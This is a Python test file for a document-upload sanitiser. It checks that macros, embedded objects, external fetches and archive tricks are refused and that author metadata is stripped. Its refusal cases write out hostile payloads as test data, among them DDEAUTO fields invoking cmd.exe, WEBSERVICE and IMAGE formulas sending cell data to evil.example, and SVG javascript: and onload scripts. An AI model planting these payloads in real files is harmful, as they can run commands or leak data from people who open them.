"""Office files: what runs, carries, fetches or unfolds is refused with the reason; who wrote one is gone from the rest."""

from __future__ import annotations

import random
import zipfile
from base64 import b64encode
from io import BytesIO
from typing import Any

import docx
import openpyxl
import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from compact_portal.kit import files
from compact_portal.kit.files import DOCX, EVERYTHING, JPEG, ODP, ODS, ODT, PPTX, XLSX, Clean, accept
from compact_portal.kit.files.texts import Words, words_of
from compact_portal.kit.refusals import Refusal
from tests.compact_portal.kit.office_files import (
    body,
    lies_about_its_size,
    old_office,
    open_file,
    overlapping,
    parts_of,
    relations,
    sheet_file,
    show_file,
    types,
    word_file,
    word_parts,
    zipped,
)
from tests.compact_portal.kit.test_files import EVIL, camera, document, picture


def given(content: bytes, name: str = "report") -> Clean:
    return accept(SimpleUploadedFile(name, content), kinds=EVERYTHING)


def why(content: bytes) -> str:
    with pytest.raises(Refusal) as refused:
        given(content)
    return str(refused.value.sentence)


def word(**more: Any) -> bytes:
    """A Word document with a part more, or another."""
    return zipped(word_parts(**more))


@pytest.mark.parametrize(
    ("content", "kind", "ending"),
    [
        (word_file(), DOCX, ".docx"),
        (sheet_file(), XLSX, ".xlsx"),
        (show_file(), PPTX, ".pptx"),
        (open_file("text"), ODT, ".odt"),
        (open_file("spreadsheet"), ODS, ".ods"),
        (open_file("presentation"), ODP, ".odp"),
    ],
)
def test_which_it_is_its_content_says(content: bytes, kind: str, ending: str) -> None:
    clean = given(content, "../report.final.exe")
    assert (clean.media_type, clean.name) == (kind, f"report{ending}")
    with zipfile.ZipFile(BytesIO(clean.content)) as archive:
        assert archive.testzip() is None


def test_a_word_document_still_opens_and_has_no_author() -> None:
    clean = given(word_file("Nothing is lost."))
    assert b"Karen" not in b"".join(parts_of(clean.content).values())
    opened = docx.Document(BytesIO(clean.content))
    assert [one.text for one in opened.paragraphs] == ["Nothing is lost."]
    assert not opened.core_properties.author and not opened.core_properties.last_modified_by


def test_a_spreadsheet_still_opens_and_has_no_author() -> None:
    clean = given(sheet_file("94 days", "33 days"))
    assert b"Karen" not in b"".join(parts_of(clean.content).values())
    rows = openpyxl.load_workbook(BytesIO(clean.content)).active
    assert [row[0].value for row in rows.iter_rows()] == ["94 days", "33 days"]


def test_who_commented_and_changed_a_document_is_gone_and_so_are_extra_properties() -> None:
    extra = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    content = word(
        **{
            "[Content_Types].xml": types({"/word/document.xml": main, "/docProps/custom.xml": extra}),
            "_rels/.rels": relations(
                ("officeDocument", "word/document.xml", ""),
                ("custom-properties", "docProps/custom.xml", ""),
                ("metadata/thumbnail", "docProps/thumbnail.jpeg", ""),
            ),
            "word/document.xml": body('<w:ins w:author="Karen Holm" w:id="1"><w:r><w:t>new</w:t></w:r></w:ins>'),
            "docProps/custom.xml": "<Properties>Karen Holm</Properties>",
            "docProps/thumbnail.jpeg": "Karen",
            "customXml/item1.xml": "<people>Karen Holm</people>",
        }
    )
    parts = parts_of(given(content).content)
    assert b"Karen" not in b"".join(parts.values())
    assert set(parts) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    assert b"custom" not in parts["[Content_Types].xml"] and b"thumbnail" not in parts["_rels/.rels"]


def test_who_wrote_an_open_document_is_gone() -> None:
    inside = "<text:annotation><dc:creator>Karen Holm</dc:creator></text:annotation><text:p>Words</text:p>"
    clean = given(open_file(inside=inside))
    parts = parts_of(clean.content)
    assert b"Karen" not in b"".join(parts.values()) and b"Words" in parts["content.xml"]
    assert "Thumbnails/thumbnail.png" not in parts and b"Thumbnails" not in parts["META-INF/manifest.xml"]
    first = zipfile.ZipFile(BytesIO(clean.content)).infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)


def test_what_the_camera_wrote_into_a_photograph_inside_is_gone() -> None:
    photograph = picture(JPEG, exif=camera())
    assert b"ACME-CAMERA" in photograph
    parts = parts_of(given(word(**{"word/media/image1.jpg": photograph})).content)
    kept = parts["word/media/image1.jpg"]
    assert b"ACME-CAMERA" not in kept and Image.open(BytesIO(kept)).size == (40, 30)


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _leads(*row: str) -> bytes:
    return word(**{"word/_rels/document.xml.rels": relations(tuple(row))})  # type: ignore[arg-type]


def _field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return word(**{"word/document.xml": body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')})


def _simple_field(attributes: str) -> bytes:
    return word(**{"word/document.xml": body(f"<w:p><w:fldSimple {attributes}/></w:p>")})


def _fields_in_quotes(code: str) -> bytes:
    """A field between two others whose quotation marks are never closed, each by itself."""
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{one}</w:instrText></w:r>'
        for one in ('QUOTE "', code, 'QUOTE "')
    )
    return word(**{"word/document.xml": body(f"<w:p>{runs}</w:p>")})


def _formula(said: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return zipped(
        {
            "[Content_Types].xml": types({"/xl/workbook.xml": main}),
            "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": "<workbook/>",
            "xl/worksheets/sheet1.xml": f"<worksheet><sheetData><row><c><f>{said}</f></c></row></sheetData></worksheet>",
        }
    )


def _svg(inside: str, before: str = "") -> str:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"{before}<svg {names}>{inside}</svg>"


def _drawing(inside: str, before: str = "") -> bytes:
    """A Word document with an SVG beside its image, as Word keeps its icons."""
    return word(**{"word/media/image1.svg": _svg(inside, before)})


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (word(**{"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
        (word(**{"word/VBAPROJECT.BIN": b"\xd0\xcf"}), "macros"),
        (word(**{"[Content_Types].xml": types({"/word/document.xml": MACRO_MAIN})}), "macros"),
        (word(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
        (open_file(**{"Basic/script-lc.xml": "<x/>"}), "macros"),
        (open_file(**{"Scripts/python/run.py": "import os"}), "macros"),
        (open_file(inside="<script:event-listener/>"), "macros"),
        (word(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "another file"),
        (word(**{"word/embeddings/table.xlsx": sheet_file()}), "another file"),
        (word(**{"word/evil.html": EVIL}), "another file"),
        (word(**{"word/media/run.exe": b"MZ"}), "another file"),
        (open_file(**{"Object 1": "\xd0\xcf"}), "another file"),
        (_leads("aFChunk", "afchunk.xml", ""), "another file"),
        (word(**{"word/activeX/activeX1.xml": "<x/>"}), "button"),
        (word(**{"customUI/customUI.xml": "<x/>"}), "button"),
        (_leads("attachedTemplate", "https://evil.example/t.dotm", "External"), "fetches"),
        (_leads("image", "https://evil.example/see.png", "External"), "fetches"),
        (_leads("oleObject", "\\\\evil\\share", "External"), "another file"),
        (word(**{"xl/externalLinks/externalLink1.xml": "<x/>"}), "fetches"),
        (_field("DD", "EAUTO c:\\\\cmd.exe"), "fetches"),
        (_field(' INCLUDEPICTURE "https://evil.example/x"'), "fetches"),
        (_simple_field('w:dirty="true" w:instr="DDEAUTO c:\\\\cmd.exe"'), "fetches"),
        (_simple_field('w:dirty="true" w:instr="INCLUDEPICTURE https://evil.example/x"'), "fetches"),
        (_fields_in_quotes("DDEAUTO c:\\\\cmd.exe"), "fetches"),
        (word(**{"word/document.xml": body('<v:imagedata src="https://evil.example/x.png"/>')}), "fetches"),
        (word(**{"word/document.xml": body('<v:fill o:href="\\\\evil\\share"/>')}), "fetches"),
        (_formula('WEBSERVICE("https://evil.example/")'), "fetches"),
        (_formula('_xlfn.IMAGE("https://evil.example/?"&amp;A1)'), "fetches"),
        (_formula("cmd|'/C calc'!A0"), "fetches"),
        (_formula('RTD("server",,"x")'), "fetches"),
        (_formula('HYPERLINK("file:///c:/windows/cmd.exe")'), "opens a file"),
        (_formula('HYPERLINK("\\\\evil\\share","open")'), "opens a file"),
        (_formula('HYPERLINK("run.exe")'), "opens a file"),
        (_formula('HYPERLINK("fi"&amp;"le:///c:/windows/cmd.exe")'), "works out where"),
        (_formula('HYPERLINK(A1,"open")'), "works out where"),
        (_formula('IF(A1, "http", HYPERLINK ( CONCATENATE("file:",A2)))'), "works out where"),
        (_formula('"x"&amp;hyperlink("""https://"&amp;A1)'), "works out where"),
        (open_file(inside='<table:table-cell table:formula="of:=HYPERLINK([.A1];&quot;x&quot;)"/>'), "works out where"),
        (_drawing('<image href="https://evil.example/x.png"/>'), "fetches"),
        (_drawing('<use xlink:href="file:///etc/passwd#a"/>'), "fetches"),
        (_drawing('<rect style="fill:url( \'//evil.example/x.svg#a\')"/>'), "fetches"),
        (_drawing("<style>@import 'https://evil.example/x.css';</style>"), "fetches"),
        (_drawing("", '<?xml-stylesheet href="https://evil.example/x.css"?>'), "fetches"),
        (_drawing('<a href="file:///c:/windows/cmd.exe"/>'), "fetches"),
        (_drawing('<a href="javascript:alert(1)"/>'), "fetches"),
        (_drawing("<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>"), "button"),
        (_drawing('<rect onload="alert(1)"/>'), "button"),
        (_drawing('<a><animate attributeName="xlink:href" to="javascript:alert(1)"/></a>'), "button"),
        (_drawing("<foreignObject><p>x</p></foreignObject>"), "button"),
        (open_file(**{"Pictures/1.svg": _svg('<image href="https://evil.example/x.png"/>')}), "fetches"),
        (open_file(inside='<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>'), "fetches"),
        (open_file(inside='<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"/>'), "fetches"),
        (open_file(inside='<draw:image xlink:href="https://evil.example/x.png"/>'), "fetches"),
        (_leads("hyperlink", "file:///c:/windows/cmd.exe", "External"), "opens a file"),
        (_leads("hyperlink", "java script:alert(1)", "External"), "opens a file"),
        (_leads("hyperlink", "\\\\evil\\share\\x", "External"), "opens a file"),
        (word(**{"ppt/slides/slide1.xml": '<a action="ppaction://program"/>'}), "opens a file"),
        (word(**{"ppt/slides/slide1.xml": '<a action="ppaction&#58;//program"/>'}), "opens a file"),
        (open_file(inside='<text:a xlink:href="file:///etc/passwd">x</text:a>'), "opens a file"),
        (old_office("EncryptedPackage"), "password"),
        (open_file(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "password"),
        (old_office(), "before 2007"),
        (word() + EVIL, "before or behind"),
        (zipped(word_parts(), comment=EVIL), "before or behind"),
        (document() + word(), "damaged"),
        (b"GIF89a" + word(), "GIF"),
        (word(**{"word/document.xml": b" " * 30_000_000}), "unfolds"),
        (word(**{f"word/part{n}.xml": "<x/>" for n in range(3_100)}), "unfolds"),
        (overlapping(), "unfolds"),
        (lies_about_its_size(), "damaged"),
        (word(**{"../evil.xml": "<x/>"}), "damaged"),
        (word(**{"word/Document.xml": "<x/>"}), "damaged"),
        (word(**{"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
        (word(**{"_rels/.rels": "<not closed"}), "damaged"),
        (word()[:-30], "damaged"),
        (word()[: len(word()) * 99 // 100], "damaged"),
        (zipped({"a.txt": "a"}), "archive"),
        (b"Rar!\x1a\x07" + b"\0" * 60, "archive"),
        (b"7z\xbc\xaf\x27\x1c" + b"\0" * 60, "archive"),
        (b"\x1f\x8b" + b"\0" * 60, "archive"),
        (b"MZ" + b"\0" * 60, "program"),
        (b"<?xml version='1.0'?><svg onload='alert(1)'/>", "SVG"),
        (b"\0\0\0\x18ftypheic" + b"\0" * 60, "HEIC"),
        (b"{\\rtf1 x}", "RTF"),
        (EVIL, "not a kind of file"),
        (b"", "empty"),
    ],
)  # fmt: skip
def test_each_is_refused_with_its_own_reason(content: bytes, reason: str) -> None:
    if reason == "damaged" and content.startswith(b"%PDF"):
        # What stands behind a PDF is left behind, or the PDF refused: never kept.
        try:
            assert b"PK\x03\x04" not in given(content).content
        except Refusal as refusal:
            assert "damaged" in str(refusal)
        return
    assert reason in why(content)


def test_links_to_the_web_do_no_harm() -> None:
    content = _leads("hyperlink", "https://vesterhaven.example/", "External")
    assert b"https://vesterhaven.example/" in parts_of(given(content).content)["word/_rels/document.xml.rels"]
    assert given(_leads("hyperlink", "mailto:housing@vesterhaven.example", "External"))
    assert given(_field(' TOC \\o "1-3" \\h'))
    assert given(_field(" MERGEFIELD Link"))
    assert given(open_file(inside='<text:a xlink:href="https://vesterhaven.example/">x</text:a>'))


def test_formulas_that_only_reckon_and_link_to_the_web_do_no_harm() -> None:
    for said in (
        "SUM(A1:A9)",
        "IMAGES+1",
        'HYPERLINK("https://vesterhaven.example/")',
        'HYPERLINK("https://vesterhaven.example/?id="&amp;A1,"Open")',
        'HYPERLINK("#Figures!A1";"There")',
        'HYPERLINK("www.vesterhaven.example")',
        '"Write HYPERLINK(A1) here"',
        'IF(A1&gt;2,"a|b!","c")',
        "'a|b'!A1",
    ):
        assert given(_formula(said)).content
    cell = '<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>'
    assert given(open_file(inside=cell)).content
    link = '<v:shape href="https://vesterhaven.example/"><v:imagedata r:id="rId1"/></v:shape>'
    assert given(word(**{"word/document.xml": body(link)})).content


def test_a_drawing_that_only_draws_stays() -> None:
    """As Word writes an icon; as LibreOffice writes a filling and a font."""
    icon = (
        '<defs><clipPath id="a"><path d="M0 0"/></clipPath></defs><g clip-path="url(#a)"><path fill="#0b3a75" d="M0 0"/></g>'
        '<use xlink:href="#a"/><image href="data:image/png;base64,AAAA"/><a href="https://vesterhaven.example/"/>'
        "<style>@font-face { src: url(data:font/woff2;base64,AAAA) } .a { fill: url(#a) }</style>"
    )
    assert "word/media/image1.svg" in parts_of(given(_drawing(icon)).content)
    assert given(open_file(**{"Pictures/1.svg": _svg(icon)})).content


def test_an_office_file_is_refused_where_none_is_asked_for() -> None:
    with pytest.raises(Refusal, match="not a kind of file"):
        accept(SimpleUploadedFile("x.docx", word_file()))


def test_what_stands_between_the_parts_is_left_behind() -> None:
    """A file hidden where no directory leads."""
    content = bytearray(word())
    with zipfile.ZipFile(BytesIO(content)) as archive:
        place = archive.start_dir
    hidden = b"HIDDEN" * 100
    at = len(content) - 22 + len(hidden)
    moved = content[:place] + hidden + content[place:]
    moved[at + 16 : at + 20] = (place + len(hidden)).to_bytes(4, "little")
    assert b"HIDDEN" not in given(bytes(moved)).content


@pytest.mark.parametrize("whole", [word_file(), sheet_file(), open_file()])
def test_damage_of_any_sort_is_a_sentence_and_never_a_fault(whole: bytes) -> None:
    chance = random.Random(11)
    for _ in range(120):
        hurt = bytearray(whole)
        for _ in range(chance.randint(1, 12)):
            hurt[chance.randrange(4, len(hurt))] = chance.randrange(256)
        try:
            assert files.cleaned(bytes(hurt), EVERYTHING)[1]
        except Refusal as refusal:
            assert str(refusal)


# Words


@pytest.mark.parametrize(
    ("content", "kind", "said"),
    [
        (word_file("Call Amal on +45 20 12 34 56", "Second"), DOCX, "Call Amal on +45 20 12 34 56\nSecond"),
        (sheet_file("Amal", "2"), XLSX, "Amal"),
        (show_file("Amal speaks"), PPTX, "Amal speaks"),
        (open_file(inside="<text:p>Amal</text:p><text:p>Two</text:p>"), ODT, "Amal\nTwo"),
    ],
)
def test_the_words_of_an_office_file(content: bytes, kind: str, said: str) -> None:
    assert said in words_of(given(content).content, kind).text


def test_the_words_of_a_pdf() -> None:
    from weasyprint import HTML

    page = "<p>Call Amal Haddad on 20 12 34 56</p><p>Grüße · اتصل بأمل</p>"
    made = HTML(string=page).write_pdf()
    said = words_of(given(made).content, files.PDF).text
    assert "Amal Haddad" in said and "20 12 34 56" in said and "Grüße" in said


def test_a_scan_and_an_image_have_no_words() -> None:
    assert words_of(given(document()).content, files.PDF).text == ""
    assert words_of(picture(), files.PNG).text == ""
    assert words_of(b"%PDF-nonsense", files.PDF).text == ""
    assert words_of(b"PK\x03\x04nonsense", DOCX).text == ""


@pytest.mark.parametrize(
    ("numbered", "said"),
    [
        ("<p>1</p><p style='break-before:page'>2</p>", ""),
        ("<p>Page 1 of 2</p><p style='break-before:page'>Page 2 of 2</p>", ""),
        ("<p>– iv –</p><p>صفحة 3 من 9</p><p>第 3 页</p>", ""),
        ("<p>Page 1 of 2</p><p>Amal</p>", "Amal"),
        ("<p>1</p><p>Li</p>", "Li"),
        ("<p>1</p><p>+45 20 12 34 56</p>", "34 56"),
        ("<p>CPR 120390</p>", "120390"),
    ],
)
def test_a_scan_that_was_only_numbered_has_no_words(numbered: str, said: str) -> None:
    from weasyprint import HTML

    found = words_of(given(HTML(string=numbered).write_pdf()).content, files.PDF).text
    assert said in found and bool(said) == bool(found)


SCAN = "<img src='data:image/png;base64,{}' style='width:8cm'>"


def pages_file(*pages: str) -> bytes:
    """A PDF with these pages; ``scan`` stands for one that is an image."""
    from weasyprint import HTML

    scan = SCAN.format(b64encode(picture()).decode())
    html = "".join(f"<div style='break-after:page'>{page.replace('scan', scan)}</div>" for page in pages[:-1])
    return given(HTML(string=f"{html}<div>{pages[-1].replace('scan', scan)}</div>").write_pdf()).content


@pytest.mark.parametrize(
    ("pages", "wordless"),
    [
        (["Amal Haddad", "scan", "صفحة أمل حداد", "scan"], 2),
        (["Amal Haddad", "Rent and keys"], 0),
        (["scan", "scan"], 2),
        (["Amal Haddad", "Page 2 of 3 scan", "scan and what it shows"], 1),
        (["Amal Haddad", "&nbsp;", "Rent"], 0),
        (["Amal Haddad", "<div style='background:#ddd;height:9cm'></div>"], 1),
    ],
    ids=["scans", "words", "nothing but scans", "numbered scan", "blank page", "drawing"],
)
def test_pages_that_hold_no_words_are_counted(pages: list[str], wordless: int) -> None:
    found = words_of(pages_file(*pages), files.PDF)
    assert (found.pages, found.wordless) == (len(pages), wordless)
    assert ("Amal Haddad" in found.text) == (pages[0] == "Amal Haddad")


@pytest.mark.parametrize(("bound", "most"), [("MOST_PAGES", 2), ("MOST_CHARACTERS", 15)])
def test_pages_beyond_the_bounds_count_as_wordless(monkeypatch: pytest.MonkeyPatch, bound: str, most: int) -> None:
    monkeypatch.setattr(f"compact_portal.kit.files.texts.{bound}", most)
    found = words_of(pages_file("Amal Haddad", "Rent and keys", "Rooms", "Beds"), files.PDF)
    assert (found.pages, found.wordless) == (4, 2)


def test_a_broken_page_hides_no_other() -> None:
    with pikepdf.open(BytesIO(pages_file("Amal Haddad", "Rent", "Rooms"))) as pdf:
        pdf.pages[1].Contents = pdf.make_stream(b"BT [/Odd] TJ (Rent) Tj ET")
        out = BytesIO()
        pdf.save(out)
    found = words_of(out.getvalue(), files.PDF)
    assert "Amal Haddad" in found.text and "Rooms" in found.text
    assert (found.pages, found.wordless) == (3, 1)


def test_no_pages_are_counted_of_what_has_none() -> None:
    assert words_of(word_file("Rent"), DOCX) == Words("Rent")
    assert words_of(picture(), files.PNG) == Words()
    assert words_of(b"%PDF-nonsense", files.PDF) == Words()


def test_words_end_where_the_bounds_end(monkeypatch: pytest.MonkeyPatch) -> None:
    long = given(word_file(*["word " * 200] * 300)).content
    assert 150_000 < len(words_of(long, DOCX).text) <= 200_000
    monkeypatch.setattr("compact_portal.kit.files.texts.MOST_SECONDS", -1.0)
    assert words_of(long, DOCX).text == ""
    assert not any(char in words_of(long, DOCX).text for char in "\x00\u2028")
